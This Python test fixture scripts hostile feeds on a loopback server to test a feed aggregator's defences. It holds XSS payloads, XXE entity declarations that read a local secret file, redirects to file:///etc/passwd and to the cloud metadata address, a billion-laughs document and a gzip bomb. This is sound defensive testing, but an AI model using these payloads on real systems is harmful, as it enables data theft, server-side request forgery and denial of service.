"""Hostile feeds on a loopback FeedServer: every way a server or a feed can attack us.

`serve_hostile(server, now)` scripts each case below on a running FeedServer
(tests/feedserver.py: loopback only, every wait bounded by MAX_WAIT, stopped by
`close()`) and returns the cases with their URLs.  Each case says what the
aggregator must do with it: record a named error on that feed (`error`), or
normalise it and store what is safe (`stored`).  test_hostile.py runs them all
through `update`, `build` and `digest` at once, beside two good feeds.

The active-content payloads carry markers (`XSS-...`) that must not appear in
any output file, raw or escaped: everything around them is removed, not escaped.
"""

from __future__ import annotations

import gzip
import json
from dataclasses import dataclass
from datetime import datetime, timedelta
from email.utils import format_datetime
from html import escape

from feedserver import FeedServer

# The fetch limits the hostile config sets (settings.fetch); see test_hostile.py.
MAX_BYTES = 16 * 1024 * 1024
MAX_ENTRIES = 50
TOTAL_TIMEOUT = 3
READ_TIMEOUT = 1.5

# A secret file an XXE would read, and loopback paths an XXE would request.
SECRET = "TOP-SECRET-XXE-CONTENT"
PROBES = ("/xxe-entity-probe", "/xxe-dtd-probe", "/xxe-param-probe")

# Each payload's marker must vanish from every output.
ACTIVE_CONTENT = {
    "script": "<script>alert('XSS-script')</script>",
    "onerror": '<img src="https://img.example/a.png" onerror="alert(\'XSS-onerror\')">',
    "onclick": "<p onclick=\"alert('XSS-onclick')\">click text</p>",
    "javascript: href": "<a href=\"javascript:alert('XSS-jshref')\">js link</a>",
    "obfuscated javascript: href": '<a href="jav&#x09;ascript:alert(1)//XSS-jstab">tab link</a>',
    "vbscript: href": '<a href="vbscript:msgbox(XSS-vbs)">vb link</a>',
    "data: href": '<a href="data:text/html;base64,WFNTLWRhdGE=#XSS-datahref">data link</a>',
    "data: img": '<img src="data:image/svg+xml,XSS-dataimg">',
    "iframe": '<iframe src="https://evil.example/XSS-iframe"></iframe>',
    "object": '<object data="https://evil.example/XSS-object.swf"></object>',
    "embed": '<embed src="https://evil.example/XSS-embed.swf">',
    "form": '<form action="https://evil.example/XSS-form"><input name="password"></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/XSS-meta">',
    "base": '<base href="https://evil.example/XSS-base/">',
    "svg script": "<svg><script>alert('XSS-svg')</script></svg>",
    "svg onload": "<svg onload=\"alert('XSS-svgonload')\"></svg>",
    "style element": "<style>body{display:none} .XSS-style{}</style>",
    "style overlay": (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;'
        'background:url(https://evil.example/XSS-overlay.png)">overlay text</div>'
    ),
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/XSS-css.css">',
    "tracking pixel": '<img src="https://track.example/XSS-pixel.gif" width="1" height="1">',
    "unsized web bug": '<img src="https://stats.example/XSS-bug/pixel.gif">',
    # Not hostile: a plain link, which must come out with rel="nofollow ugc noopener".
    "plain link": '<a href="https://ok.example/page" target="_blank" rel="opener">fine</a>',
}
MARKERS = tuple(
    marker
    for marker in (
        "XSS-script",
        "XSS-onerror",
        "XSS-onclick",
        "XSS-jshref",
        "XSS-jstab",
        "XSS-vbs",
        "XSS-datahref",
        "XSS-dataimg",
        "XSS-iframe",
        "XSS-object",
        "XSS-embed",
        "XSS-form",
        "XSS-meta",
        "XSS-base",
        "XSS-svg",
        "XSS-svgonload",
        "XSS-style",
        "XSS-overlay",
        "XSS-css",
        "XSS-pixel",
        "XSS-bug",
    )
)


@dataclass(frozen=True)
class Case:
    """One hostile feed: what it does and what the aggregator must make of it."""

    name: str
    path: str
    what: str  # what the server or the feed does, for the closing note
    error: str | None = None  # the ErrorInfo.kind recorded on the feed
    stored: int | None = None  # how many entries are stored (normalised), when it is not an error
    url: str = ""
    discover: bool = False  # the URL is a web page whose advertised feed we follow


def _rss(items: str, *, title: str = "Hostile", head: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{head}\n<rss version="2.0"><channel>'
        f"<title>{title}</title><link>https://hostile.example/</link>{items}</channel></rss>"
    ).encode()


def _item(guid: str, title: str, when: datetime, body: str = "<p>text</p>") -> str:
    return (
        f"<item><guid>{guid}</guid><title>{escape(title)}</title>"
        f"<link>https://hostile.example/{guid}</link>"
        f"<pubDate>{format_datetime(when)}</pubDate>"
        f"<description>{escape(body)}</description></item>"
    )


def good_feed(name: str, count: int, when: datetime) -> bytes:
    """A well-behaved feed whose entries must all be stored and published."""
    items = "".join(
        _item(f"{name}-{i}", f"{name} post {i}", when - timedelta(minutes=i), f"<p>{name} {i}</p>")
        for i in range(count)
    )
    return _rss(items, title=name)


def serve_hostile(server: FeedServer, when: datetime, secret_path: str) -> list[Case]:
    """Script every hostile case on `server`; return them with their URLs.

    `when` dates the entries (the digest for its day shows them); `secret_path`
    is a file holding SECRET that an XXE would try to read.
    """
    base = server.base_url
    cases: list[Case] = []

    def add(case: Case, body: bytes = b"", **route: object) -> None:
        url = server.add(case.path, body, **route)  # type: ignore[arg-type]
        cases.append(Case(**{**case.__dict__, "url": url}))

    # ---------------------------------------------------------------- HTTP
    add(
        Case("slow drip", "/drip.xml", "sends one byte every 0.5 s", error="timeout"),
        good_feed("drip", 3, when),
        drip=0.5,
    )
    add(
        Case("stalled server", "/stall.xml", "answers nothing for 10 s", error="timeout"),
        good_feed("stall", 1, when),
        delay=10.0,
    )
    add(
        Case("huge body", "/huge.xml", f"streams {MAX_BYTES * 5 // 4} bytes", error="too_large"),
        b"<rss>" + b" " * (MAX_BYTES * 5 // 4),
        chunked=True,
    )
    add(
        Case(
            "gzip bomb",
            "/bomb.xml",
            "64 KB of gzip that inflates to 64 MB",
            error="too_large",
        ),
        gzip.compress(b"\0" * (64 * 1024 * 1024), compresslevel=9),
        headers={"Content-Encoding": "gzip"},
    )
    add(
        Case(
            "redirect loop",
            "/loop-a",
            "redirects /loop-a -> /loop-b -> /loop-a",
            error="redirect_loop",
        ),
        redirect_to="/loop-b",
        redirect_status=302,
    )
    server.add("/loop-b", redirect_to="/loop-a", redirect_status=302)
    add(
        Case(
            "endless redirects",
            "/hop/0",
            "redirects to a new address each time",
            error="too_many_redirects",
        ),
        redirect_to="/hop/1",
    )
    for i in range(1, 15):
        server.add(f"/hop/{i}", redirect_to=f"/hop/{i + 1}")
    add(
        Case(
            "redirect to file:", "/to-file", "redirects to file:///etc/passwd", error="bad_redirect"
        ),
        redirect_to="file:///etc/passwd",
    )
    add(
        Case(
            "redirect to ftp:",
            "/to-ftp",
            "redirects to ftp://ftp.example/feed",
            error="bad_redirect",
        ),
        redirect_to="ftp://ftp.example/feed.xml",
    )
    add(
        Case(
            "redirect to cloud metadata",
            "/to-metadata",
            "a listed feed redirects to http://169.254.169.254/latest/meta-data/",
            error="blocked_address",
        ),
        redirect_to="http://169.254.169.254/latest/meta-data/",
        redirect_status=302,
    )
    add(
        Case(
            "redirect to another loopback host",
            "/to-localhost",
            "a listed feed redirects to http://localhost:PORT/ (this machine)",
            error="blocked_address",
        ),
        redirect_to=server.url("/good-a.xml", host="localhost"),
        redirect_status=302,
    )
    page = (
        '<!doctype html><html><head><title>Campaign</title><link rel="alternate" '
        'type="application/rss+xml" href="{href}"></head><body>Hi</body></html>'
    )
    add(
        Case(
            "discovered feed on cloud metadata",
            "/page-metadata.html",
            "a web page advertises its feed at http://169.254.169.254/",
            error="blocked_address",
            discover=True,
        ),
        page.format(href="http://169.254.169.254/latest/meta-data/feed.xml").encode(),
        content_type="text/html; charset=utf-8",
    )
    add(
        Case(
            "discovered feed on loopback",
            "/page-loopback.html",
            "a web page advertises its feed at http://127.0.0.1:PORT/ (this machine)",
            error="blocked_address",
            discover=True,
        ),
        page.format(href=f"{base}/good-a.xml").encode(),
        content_type="text/html; charset=utf-8",
    )
    add(
        Case(
            "429 with Retry-After",
            "/429.xml",
            "429 Too Many Requests, Retry-After: 7200",
            error="http",
        ),
        b"slow down",
        status=429,
        headers={"Retry-After": "7200"},
    )
    add(
        Case(
            "503 with Retry-After",
            "/503.xml",
            "503 Service Unavailable, Retry-After: 600",
            error="http",
        ),
        b"down",
        status=503,
        headers={"Retry-After": "600"},
    )
    add(
        Case(
            "permanent redirect",
            "/old.xml",
            "301 Moved Permanently to /new.xml on the same server",
            stored=1,
        ),
        redirect_to="/new.xml",
        redirect_status=301,
    )
    server.add("/new.xml", _rss(_item("moved-1", "Moved post", when)))
    add(Case("410 Gone", "/410.xml", "410 Gone", error="gone"), b"gone", status=410)
    add(Case("404", "/404.xml", "404 Not Found", error="http"), b"missing", status=404)
    add(Case("500", "/500.xml", "500 Internal Server Error", error="http"), b"oops", status=500)
    add(Case("empty 200", "/empty.xml", "200 with an empty body", error="parse"), b"")

    # ---------------------------------------------------------------- XML attacks
    xxe = _rss(
        _item("xxe-1", "XXE &file; &remote;", when, "x"),
        head=(
            f'\n<!DOCTYPE rss [<!ENTITY file SYSTEM "file://{secret_path}">'
            f'<!ENTITY remote SYSTEM "{base}{PROBES[0]}">'
            f'<!ENTITY % param SYSTEM "{base}{PROBES[2]}"> %param;]>'
        ),
    )
    add(
        Case(
            "XXE",
            "/xxe.xml",
            "external entities naming a local file, a loopback URL and a parameter entity",
            stored=1,
        ),
        xxe,
    )
    add(
        Case(
            "external DTD",
            "/dtd.xml",
            "a DOCTYPE whose external DTD is on loopback",
            stored=1,
        ),
        _rss(
            _item("dtd-1", "External DTD", when),
            head=f'\n<!DOCTYPE rss SYSTEM "{base}{PROBES[1]}">',
        ),
    )
    lol = '<!ENTITY lol0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )
    add(
        Case("billion laughs", "/laughs.xml", "nested entities expanding to 3 GB", stored=1),
        _rss(_item("laughs-1", "Laughs &lol9;", when), head=f"\n<!DOCTYPE rss [{lol}]>"),
    )
    add(
        Case(
            "quadratic blowup",
            "/quadratic.xml",
            "one 50 KB entity referenced 2,000 times",
            stored=1,
        ),
        _rss(
            _item("quad-1", "Quadratic", when, "q").replace(
                "<description>q</description>", "<description>" + "&big;" * 2000 + "</description>"
            ),
            head=f'\n<!DOCTYPE rss [<!ENTITY big "{"x" * 50_000}">]>',
        ),
    )
    many = "".join(
        f"<item><guid>m{i}</guid><title>Many {i}</title>"
        f"<pubDate>{format_datetime(when - timedelta(minutes=100_000 - i))}</pubDate></item>"
        for i in range(100_000)
    )
    add(
        Case(
            "100,000 entries",
            "/many.xml",
            "a 100,000-entry feed (about 10 MB), oldest first",
            stored=MAX_ENTRIES,
        ),
        _rss(many),
    )
    add(
        Case(
            "HTML page instead of a feed",
            "/page.html",
            "a web page with no feed link",
            error="not_a_feed",
        ),
        b"<!DOCTYPE html><html><head><title>Blog</title></head><body><p>Hello</p></body></html>",
        content_type="text/html; charset=utf-8",
    )
    add(
        Case("broken XML", "/broken.xml", "a truncated document", error="parse"),
        b'<?xml version="1.0"?><rss version="2.0"><chan',
    )
    add(
        Case("JSON that is not a feed", "/data.json", "a JSON array", error="not_a_feed"),
        b"[1, 2, 3]",
        content_type="application/json",
    )

    # ---------------------------------------------------------------- broken text
    latin = _rss(_item("latin-1", "Caf\u00e9 cr\u00e8me \u00a3", when)).replace(
        b'encoding="utf-8"', b'encoding="iso-8859-1"'
    )
    add(
        Case(
            "wrong charset",
            "/charset.xml",
            "ISO-8859-1 bytes served as charset=utf-8 with an ISO-8859-1 declaration",
            stored=1,
        ),
        latin.decode("utf-8").encode("iso-8859-1"),
    )
    add(
        Case("no charset at all", "/nocharset.xml", "Windows-1252 bytes, no declaration", stored=1),
        _rss(_item("nochar-1", "Smart \u201cquotes\u201d", when))
        .replace(b' encoding="utf-8"', b"")
        .decode("utf-8")
        .encode("cp1252"),
        content_type="application/rss+xml",
    )
    add(
        Case("invalid UTF-8", "/badutf8.xml", "bytes that are not UTF-8 in a UTF-8 feed", stored=1),
        _rss(_item("utf8-1", "Bad BYTES here", when)).replace(b"BYTES", b"\xff\xfe\xc3\x28"),
    )
    add(
        Case(
            "NUL and control characters",
            "/nul.xml",
            "NUL, ESC and C1 bytes in title and text",
            stored=1,
        ),
        _rss(_item("nul-1", "Nul\x00 esc\x1b bell\x07 c1\u0085 end", when, "<p>a\x00b\x01c</p>")),
    )
    add(
        Case("1 MB title", "/bigtitle.xml", "a 1 MB title", stored=1),
        _rss(_item("big-1", "Long " * 200_000, when)),
    )
    add(
        Case(
            "absurd and unparseable dates",
            "/dates.xml",
            "dates in year 0001 and 9999 and 'next Tuesday'",
            stored=3,
        ),
        _rss(
            "".join(
                f"<item><guid>date-{i}</guid><title>Date {i}</title><pubDate>{d}</pubDate></item>"
                for i, d in enumerate(
                    (
                        "Mon, 01 Jan 0001 00:00:00 GMT",
                        "Fri, 31 Dec 9999 23:59:59 GMT",
                        "next Tuesday",
                    )
                )
            )
        ),
    )
    add(
        Case("duplicate GUIDs", "/dupes.xml", "three items with one GUID", stored=1),
        _rss("".join(_item("same", f"Dupe {i}", when) for i in range(3))),
    )

    # ---------------------------------------------------------------- active content
    active = "".join(
        _item(f"active-{i}", f"Active {name}", when - timedelta(minutes=i), f"<p>{name}</p>{html}")
        for i, (name, html) in enumerate(ACTIVE_CONTENT.items())
    )
    title_script = _item(
        "active-title", "<script>alert('title')</script> Title with a tag", when, "<p>t</p>"
    )
    add(
        Case(
            "active content (RSS)",
            "/active.xml",
            "script, event handlers, javascript:/vbscript:/data: URLs, iframe, object, embed, "
            "form, meta refresh, base, SVG script, style element and overlay, tracking pixels",
            stored=len(ACTIVE_CONTENT) + 1,
        ),
        _rss(active + title_script),
    )
    json_feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "Hostile JSON <script>alert('title')</script>",
        "items": [
            {
                "id": f"json-{i}",
                "url": "javascript:alert('XSS-jshref')" if i == 0 else f"https://j.example/{i}",
                "title": f"JSON {name}",
                "content_html": html,
                "date_published": (when - timedelta(minutes=i)).isoformat(),
                "image": "data:image/png;base64,XSS-dataimg",
            }
            for i, (name, html) in enumerate(ACTIVE_CONTENT.items())
        ],
    }
    add(
        Case(
            "active content (JSON Feed)",
            "/active.json",
            "the same payloads in a JSON Feed, plus a javascript: item URL and a data: image",
            stored=len(ACTIVE_CONTENT),
        ),
        json.dumps(json_feed).encode(),
        content_type="application/feed+json",
    )
    return cases
